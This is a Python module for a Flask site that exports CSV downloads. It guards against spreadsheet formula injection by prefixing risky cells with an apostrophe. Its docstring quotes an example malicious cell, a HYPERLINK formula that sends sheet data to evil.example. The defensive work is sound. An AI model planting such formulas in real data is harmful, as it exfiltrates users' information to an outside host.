"""Tables the site hands out as spreadsheets (CSV today; XLSX would use `safe_cell` the same way).

A spreadsheet runs a cell that begins with =, +, - or @ (and, in some programs, a tab or a
carriage return first) as a formula: a firm named =HYPERLINK("http://evil.example/?x="&A1,"…")
would become a live link that sends the sheet's data away when the organizer clicks it. Such
text is written with a leading apostrophe, which spreadsheets show as plain text.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from flask import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet cell: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return out.getvalue()


def csv_response(rows: Iterable[Iterable], filename: str) -> Response:
    """A CSV download that spreadsheet programs open as UTF-8 (byte order mark) and cannot run."""
    body = "\ufeff" + csv_text(rows)
    return Response(body.encode("utf-8"), mimetype="text/csv",  # Werkzeug adds "; charset=utf-8"
                    headers={"Content-Disposition": f'attachment; filename="{filename}"'})
